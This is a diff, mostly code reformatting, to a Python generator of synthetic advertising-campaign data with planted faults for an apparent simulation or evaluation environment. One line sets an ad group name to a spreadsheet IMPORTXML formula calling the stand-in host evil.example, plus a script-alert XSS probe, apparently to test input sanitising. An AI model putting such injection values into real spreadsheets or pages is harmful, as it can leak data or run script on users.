@@ -1,6 +1,7 @@
 """Generation of a profile's catalogue, campaigns, targets and latent truth (run once, from its own seeded RNG).
 
 Kept apart from the simulation: it is one long, strictly ordered sequence of RNG draws that must never change."""
+
 from __future__ import annotations
 
 import datetime as _dt
@@ -67,10 +68,10 @@ class ProfileGeneration:
         self.ad_ag: list[int] = []
         self.ad_prod: list[int] = []
         # unified targets (keyword or targeting clause)
-        self.t_kind: list[str] = []     # "keyword" | "target"
+        self.t_kind: list[str] = []  # "keyword" | "target"
         self.t_ent: list[dict] = []
         self.t_ag: list[int] = []
-        self.t_pt: list[bool] = []      # product-page-heavy placement mix
+        self.t_pt: list[bool] = []  # product-page-heavy placement mix
         self.t_planted: list[str] = []
         terms_t: list[int] = []
         terms_q: list[int] = []
@@ -96,9 +97,14 @@ class ProfileGeneration:
 
         def new_query(text, base_rel=None, v=None):
             rel = base_rel if base_rel is not None else float(rng.lognormal(0.0, 0.45))
-            return self._q(text, v if v is not None else vol(), rel,
-                           float(rng.lognormal(math.log(0.75 * fx), 0.35)),
-                           float(rng.lognormal(math.log(0.0045), 0.4)), qv)
+            return self._q(
+                text,
+                v if v is not None else vol(),
+                rel,
+                float(rng.lognormal(math.log(0.75 * fx), 0.35)),
+                float(rng.lognormal(math.log(0.0045), 0.4)),
+                qv,
+            )
 
         def tails_of(head_q: int, theme: int) -> list[int]:
             t = head_tails.get(head_q)
@@ -134,7 +140,10 @@ class ProfileGeneration:
             terms_s.extend(shares)
             return ti
 
-        plant_oob = set(int(i) for i in rng.choice(np.flatnonzero(kinds == "kw"), size=min(2, int((kinds == "kw").sum())), replace=False))
+        plant_oob = set(
+            int(i)
+            for i in rng.choice(np.flatnonzero(kinds == "kw"), size=min(2, int((kinds == "kw").sum())), replace=False)
+        )
         for ci in range(n_camp):
             kind = str(kinds[ci])
             theme = int(rng.choice(themes))
@@ -151,20 +160,31 @@ class ProfileGeneration:
             if hostile_names and ci % 9 == 4:
                 name = hostile_names.pop(0)
             start = self.start - _dt.timedelta(days=int(rng.integers(10, 200)))
-            state = "ENABLED" if rng.random() > 0.08 or ci < 4 or ci in plant_oob else str(rng.choice(["PAUSED", "ARCHIVED"]))
+            state = (
+                "ENABLED"
+                if rng.random() > 0.08 or ci < 4 or ci in plant_oob
+                else str(rng.choice(["PAUSED", "ARCHIVED"]))
+            )
             top = int(rng.choice([0, 0, 0, 10, 25, 50, 100]))
             pb = [{"placement": "PLACEMENT_TOP", "percentage": top}]
             if rng.random() < 0.3:
                 pb.append({"placement": "PLACEMENT_PRODUCT_PAGE", "percentage": int(rng.choice([10, 20, 40]))})
             camp = {
-                "campaignId": cid, "name": name, "state": state,
+                "campaignId": cid,
+                "name": name,
+                "state": state,
                 "targetingType": "AUTO" if kind == "auto" else "MANUAL",
                 "startDate": start.isoformat(),
                 "budget": {"budget": 0.0, "budgetType": "DAILY", "effectiveBudget": 0.0},
-                "dynamicBidding": {"strategy": str(rng.choice(["LEGACY_FOR_SALES", "MANUAL", "AUTO_FOR_SALES"], p=[0.6, 0.3, 0.1])),
-                                   "placementBidding": pb},
+                "dynamicBidding": {
+                    "strategy": str(rng.choice(["LEGACY_FOR_SALES", "MANUAL", "AUTO_FOR_SALES"], p=[0.6, 0.3, 0.1])),
+                    "placementBidding": pb,
+                },
                 "tags": {},
-                "extendedData": {"creationDateTime": _iso(start, "09:12:00"), "lastUpdateDateTime": _iso(start, "09:12:00")},
+                "extendedData": {
+                    "creationDateTime": _iso(start, "09:12:00"),
+                    "lastUpdateDateTime": _iso(start, "09:12:00"),
+                },
             }
             self.ent_index["campaigns"][cid] = len(self.campaigns)
             self.campaigns.append(camp)
@@ -176,11 +196,19 @@ class ProfileGeneration:
                 agid = self.new_id()
                 ag_name = f"{label} {['Core', 'Long tail', 'Competitors', 'Brand'][gi % 4]}"
                 if ci == 5 and gi == 0:
-                    ag_name = "=IMPORTXML(\"http://evil.example\",\"//a\") <script>alert(1)</script>"
+                    ag_name = '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'
                 dbid = round(float(rng.uniform(0.4, 1.2)) * fx, 2)
-                ag = {"adGroupId": agid, "campaignId": cid, "name": ag_name,
-                      "state": "ENABLED" if rng.random() > 0.05 or gi == 0 else "PAUSED", "defaultBid": dbid,
-                      "extendedData": {"creationDateTime": _iso(start, "09:13:00"), "lastUpdateDateTime": _iso(start, "09:13:00")}}
+                ag = {
+                    "adGroupId": agid,
+                    "campaignId": cid,
+                    "name": ag_name,
+                    "state": "ENABLED" if rng.random() > 0.05 or gi == 0 else "PAUSED",
+                    "defaultBid": dbid,
+                    "extendedData": {
+                        "creationDateTime": _iso(start, "09:13:00"),
+                        "lastUpdateDateTime": _iso(start, "09:13:00"),
+                    },
+                }
                 ai = len(self.adgroups)
                 self.ent_index["adGroups"][agid] = ai
                 self.adgroups.append(ag)
@@ -189,9 +217,18 @@ class ProfileGeneration:
                 prods = rng.choice(theme_prods, size=min(len(theme_prods), int(rng.integers(1, 3))), replace=False)
                 for pi in prods:
                     adid = self.new_id()
-                    ad = {"adId": adid, "campaignId": cid, "adGroupId": agid, "state": "ENABLED",
-                          "asin": self.p_asin[pi], "sku": self.p_sku[pi],
-                          "extendedData": {"creationDateTime": _iso(start, "09:14:00"), "lastUpdateDateTime": _iso(start, "09:14:00")}}
+                    ad = {
+                        "adId": adid,
+                        "campaignId": cid,
+                        "adGroupId": agid,
+                        "state": "ENABLED",
+                        "asin": self.p_asin[pi],
+                        "sku": self.p_sku[pi],
+                        "extendedData": {
+                            "creationDateTime": _iso(start, "09:14:00"),
+                            "lastUpdateDateTime": _iso(start, "09:14:00"),
+                        },
+                    }
                     self.ent_index["productAds"][adid] = len(self.ads)
                     self.ads.append(ad)
                     self.ad_ag.append(ai)
@@ -200,10 +237,17 @@ class ProfileGeneration:
                 if kind == "auto":
                     for j, at in enumerate(AUTO_TYPES):
                         tid = self.new_id()
-                        ent = {"targetId": tid, "campaignId": cid, "adGroupId": agid,
-                               "expression": [{"type": at}], "resolvedExpression": [{"type": at}],
-                               "expressionType": "AUTO", "state": "ENABLED",
-                               "bid": round(dbid * float(rng.uniform(0.7, 1.3)), 2), "extendedData": dict(ext)}
+                        ent = {
+                            "targetId": tid,
+                            "campaignId": cid,
+                            "adGroupId": agid,
+                            "expression": [{"type": at}],
+                            "resolvedExpression": [{"type": at}],
+                            "expressionType": "AUTO",
+                            "state": "ENABLED",
+                            "bid": round(dbid * float(rng.uniform(0.7, 1.3)), 2),
+                            "extendedData": dict(ext),
+                        }
                         qs, sh = [], []
                         nterms = int(rng.integers(25, 70))
                         for _ in range(nterms):
@@ -229,29 +273,41 @@ class ProfileGeneration:
                             catid = str(int(rng.integers(2_000_000_000, 3_000_000_000)))
                             expr = [{"type": "ASIN_CATEGORY_SAME_AS", "value": catid}]
                             rexpr = [{"type": "ASIN_CATEGORY_SAME_AS", "value": label}]
-                            qs = [new_query(cat.asin(rng).lower(), v=vol() * 0.4) for _ in range(int(rng.integers(10, 30)))]
+                            qs = [
+                                new_query(cat.asin(rng).lower(), v=vol() * 0.4)
+                                for _ in range(int(rng.integers(10, 30)))
+                            ]
                             sh = [float(rng.uniform(0.05, 0.3)) for _ in qs]
                         else:
                             a = cat.asin(rng)
                             expr = [{"type": "ASIN_SAME_AS", "value": a}]
                             rexpr = [{"type": "ASIN_SAME_AS", "value": a}]
-                            qs = [new_query(a.lower())] + [new_query(cat.asin(rng).lower(), v=vol() * 0.2) for _ in range(int(rng.integers(0, 3)))]
+                            qs = [new_query(a.lower())] + [
+                                new_query(cat.asin(rng).lower(), v=vol() * 0.2) for _ in range(int(rng.integers(0, 3)))
+                            ]
                             sh = [0.6] + [0.2] * (len(qs) - 1)
                         planted = ""
                         if rng.random() < 0.04:
                             planted = "bleeder"
                             for q in qs:
                                 qv[q] = (qv[q][0] * 2, 0.0, qv[q][2], qv[q][3])
-                        ent = {"targetId": tid, "campaignId": cid, "adGroupId": agid, "expression": expr,
-                               "resolvedExpression": rexpr, "expressionType": "MANUAL",
-                               "state": "ENABLED" if rng.random() > 0.05 else "PAUSED",
-                               "bid": round(dbid * float(rng.uniform(0.6, 1.4)), 2), "extendedData": dict(ext)}
+                        ent = {
+                            "targetId": tid,
+                            "campaignId": cid,
+                            "adGroupId": agid,
+                            "expression": expr,
+                            "resolvedExpression": rexpr,
+                            "expressionType": "MANUAL",
+                            "state": "ENABLED" if rng.random() > 0.05 else "PAUSED",
+                            "bid": round(dbid * float(rng.uniform(0.6, 1.4)), 2),
+                            "extendedData": dict(ext),
+                        }
                         self.ent_index["targets"][tid] = len(self.targets)
                         self.targets.append(ent)
                         add_target("target", ent, ai, True, planted, qs, sh)
                 else:
                     used = set()
-                    for j in range(per_ag):
+                    for _j in range(per_ag):
                         head = heads_pool[int(rng.integers(len(heads_pool)))]
                         mt = mt_style if mt_style != "MIXED" else str(rng.choice(["BROAD", "PHRASE", "EXACT"]))
                         if (head, mt) in used:
@@ -274,12 +330,18 @@ class ProfileGeneration:
                         else:
                             hq = new_query(head)
                         if planted == "bleeder":
-                            tl = [new_query(f"{head} {s}", base_rel=0.0, v=vol() * 0.5) for s in cat.SUFFIXES[:int(rng.integers(2, 6))]]
+                            tl = [
+                                new_query(f"{head} {s}", base_rel=0.0, v=vol() * 0.5)
+                                for s in cat.SUFFIXES[: int(rng.integers(2, 6))]
+                            ]
                         else:
                             tl = tails_of(hq, theme)
                         if mt == "EXACT":
-                            qs = [hq, new_query(cat.plural(head), base_rel=qv[hq][1], v=qv[hq][0] * 0.15),
-                                  new_query(cat.typo(head, rng), base_rel=qv[hq][1], v=qv[hq][0] * 0.05)]
+                            qs = [
+                                hq,
+                                new_query(cat.plural(head), base_rel=qv[hq][1], v=qv[hq][0] * 0.15),
+                                new_query(cat.typo(head, rng), base_rel=qv[hq][1], v=qv[hq][0] * 0.05),
+                            ]
                             sh = [1.0, 1.0, 1.0]
                             exact_texts.add(head)
                         elif mt == "PHRASE":
@@ -296,18 +358,31 @@ class ProfileGeneration:
                         elif planted == "bleeder":
                             bid = round(dbid * 1.5, 2)
                         kid = self.new_id()
-                        ent = {"keywordId": kid, "campaignId": cid, "adGroupId": agid, "keywordText": head,
-                               "matchType": mt, "state": "ENABLED" if rng.random() > 0.04 or planted else "PAUSED",
-                               "bid": bid, "extendedData": dict(ext)}
+                        ent = {
+                            "keywordId": kid,
+                            "campaignId": cid,
+                            "adGroupId": agid,
+                            "keywordText": head,
+                            "matchType": mt,
+                            "state": "ENABLED" if rng.random() > 0.04 or planted else "PAUSED",
+                            "bid": bid,
+                            "extendedData": dict(ext),
+                        }
                         self.ent_index["keywords"][kid] = len(self.keywords)
                         self.keywords.append(ent)
                         add_target("keyword", ent, ai, False, planted, qs, sh)
                     # a few pre-existing negatives
                     if rng.random() < 0.4:
                         nid = self.new_id()
-                        neg = {"keywordId": nid, "campaignId": cid, "adGroupId": agid,
-                               "keywordText": f"{nouns[0]} {cat.IRRELEVANT[int(rng.integers(len(cat.IRRELEVANT)))]}",
-                               "matchType": "NEGATIVE_PHRASE", "state": "ENABLED", "extendedData": dict(ext)}
+                        neg = {
+                            "keywordId": nid,
+                            "campaignId": cid,
+                            "adGroupId": agid,
+                            "keywordText": f"{nouns[0]} {cat.IRRELEVANT[int(rng.integers(len(cat.IRRELEVANT)))]}",
+                            "matchType": "NEGATIVE_PHRASE",
+                            "state": "ENABLED",
+                            "extendedData": dict(ext),
+                        }
                         self.ent_index["negativeKeywords"][nid] = len(self.negatives)
                         self.negatives.append(neg)
         q = np.array(qv, dtype=float)
@@ -321,11 +396,24 @@ class ProfileGeneration:
         self.term_t = _Grow(np.int32, terms_t)
         self.term_q = _Grow(np.int32, terms_q)
         self.term_s = _Grow(float, terms_s)
-        cand = np.flatnonzero(np.isin(np.array([self.t_kind[t] == "target" or self.t_ent[t].get("matchType") in ("BROAD", "PHRASE")
-                                                for t in range(len(self.t_kind))])[self.term_t.a], True))
-        cand = [i for i in cand[rng.permutation(len(cand))][:400]
-                if self.queries[self.term_q.a[i]] not in exact_texts and self.q_rel.a[self.term_q.a[i]] > 0
-                and not self.queries[self.term_q.a[i]].startswith("b0")][: max(5, len(self.t_kind) // 150)]
+        cand = np.flatnonzero(
+            np.isin(
+                np.array(
+                    [
+                        self.t_kind[t] == "target" or self.t_ent[t].get("matchType") in ("BROAD", "PHRASE")
+                        for t in range(len(self.t_kind))
+                    ]
+                )[self.term_t.a],
+                True,
+            )
+        )
+        cand = [
+            i
+            for i in cand[rng.permutation(len(cand))][:400]
+            if self.queries[self.term_q.a[i]] not in exact_texts
+            and self.q_rel.a[self.term_q.a[i]] > 0
+            and not self.queries[self.term_q.a[i]].startswith("b0")
+        ][: max(5, len(self.t_kind) // 150)]
         for i in cand:
             qi = self.term_q.a[i]
             self.q_rel.a[qi] = max(self.q_rel.a[qi], 2.2)
